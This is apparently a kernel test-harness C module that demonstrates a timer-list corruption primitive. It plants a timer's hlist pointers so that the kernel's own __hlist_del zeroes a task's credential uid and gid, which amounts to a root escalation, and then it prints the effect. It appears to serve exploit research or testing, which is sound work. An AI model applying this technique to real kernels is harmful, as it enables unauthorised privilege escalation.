// SPDX-License-Identifier: GPL-2.0
/*
 * The list family: no call is redirected; the write plants the timer's
 * entry pointers and the wheel's own list code writes through them.
 *
 * list:hlist-del: entry.next = NULL, entry.pprev = &cred->uid of the
 * sleeper (a task running as uid 1000). The victim then modifies its pending
 * timer: __mod_timer() -> detach_if_pending() -> detach_timer() ->
 * __hlist_del() does *pprev = next (include/linux/list.h), eight zero bytes
 * over uid and gid (struct cred, include/linux/cred.h; no
 * CONFIG_DEBUG_CREDENTIALS fields before them).
 */
#include <linux/cred.h>
#include <linux/kernel.h>
#include <linux/sched.h>
#include <linux/string.h>
#include "th_unit.h"

void *th_list_target;

int th_list_payload(const char *payload, struct th_victim *v, struct th_image *img)
{
	const struct cred *c;

	if (strcmp(payload, "list:hlist-del"))
		return -EINVAL;
	if (!v->rearm)
		return -EOPNOTSUPP;
	c = get_task_cred(th_sleeper);
	th_list_target = (void *)&c->uid;
	put_cred(c);
	img->t->entry.next = NULL;
	img->t->entry.pprev = (struct hlist_node **)th_list_target;
	img->intent = "entry.next = NULL, entry.pprev = &th-sleeper's cred->uid";
	return 0;
}

void th_list_after_rearm(struct th_victim *v)
{
	const struct cred *c = get_task_cred(th_sleeper);

	th_say("EFFECT cred th-sleeper uid=%u gid=%u euid=%u (set to 1000 at start)\n",
	       from_kuid(&init_user_ns, c->uid), from_kgid(&init_user_ns, c->gid),
	       from_kuid(&init_user_ns, c->euid));
	put_cred(c);
}
